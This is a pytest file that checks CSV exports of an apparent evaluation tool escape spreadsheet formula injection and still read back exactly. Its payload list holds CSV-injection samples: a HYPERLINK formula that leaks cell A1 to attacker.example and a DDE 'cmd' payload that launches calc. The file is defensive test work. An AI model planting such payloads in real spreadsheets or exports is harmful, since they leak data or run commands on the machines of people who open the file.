"""CSV exports are safe to open in a spreadsheet, and still read back exactly.

Dataset text and model replies are untrusted: a cell starting with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return is run as a formula by a spreadsheet. Each such text cell must be
written with a leading single quote (OWASP's CSV-injection advice), numbers must stay numbers,
and :func:`~halluforge.exports.read_table` must give back the stored text.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from halluforge.exports import FORMULA_STARTS, csv_cell, csv_text, export_run, read_table, table_rows
from halluforge.records import Response, Score, TestCase
from halluforge.store import RunStore

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",  # starts with the quote itself: must survive the round trip
]
SAFE = ["Paris", "1=1 is not a formula", " =leading space"]


def test_cells() -> None:
    for text in PAYLOADS:
        cell = csv_cell(text)
        assert cell.startswith("'") and not cell.startswith(FORMULA_STARTS)
        assert csv_text(cell) == text
    for text in [*SAFE, ""]:
        assert csv_cell(text) == text and csv_text(text) == text
    assert csv_cell(-0.5) == -0.5 and csv_cell(None) is None  # numbers stay numbers


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.fixture
def run_dir(tmp_path: Path) -> Path:
    store = RunStore(tmp_path / "run")
    cases = [
        TestCase(id=f"t{i}", family="answer_swap", question=text, context=text, expected=[text or "x"])
        for i, text in enumerate(PAYLOADS + SAFE)
    ]
    responses = [
        Response(id=f"r{c.id}", test_case_id=c.id, model="mock/echo", setting="open_book", text=c.question)
        for c in cases
    ]
    scores = [
        Score(
            id=f"s{r.id}",
            response_id=r.id,
            test_case_id=r.test_case_id,
            model=r.model,
            setting=r.setting,
            family="answer_swap",
            metric="em",
            value=-0.5,
        )
        for r in responses
    ]
    store.put(cases)
    store.put(responses)
    store.put(scores)
    store.close()
    return tmp_path / "run"


def test_no_exported_cell_starts_a_formula_and_all_read_back(run_dir: Path, tmp_path: Path) -> None:
    written = export_run(run_dir, "csv", tmp_path / "csv")
    store = RunStore(run_dir)
    try:
        for table, (path, _) in written.items():
            with path.open(encoding="utf-8", newline="") as handle:
                cells = [cell for row in csv.reader(handle) for cell in row]
            assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)], table
            assert read_table(path, table, "csv") == table_rows(store, table), table
    finally:
        store.close()
    with (tmp_path / "csv" / "responses.csv").open(encoding="utf-8", newline="") as handle:
        replies = {row["id"]: row["text"] for row in csv.DictReader(handle)}
    assert replies["rt0"] == "'" + PAYLOADS[0]
    with (tmp_path / "csv" / "scores.csv").open(encoding="utf-8", newline="") as handle:
        values = {row["value"] for row in csv.DictReader(handle)}
    assert values == {"-0.5"}  # a negative number is a number, not a formula: unquoted
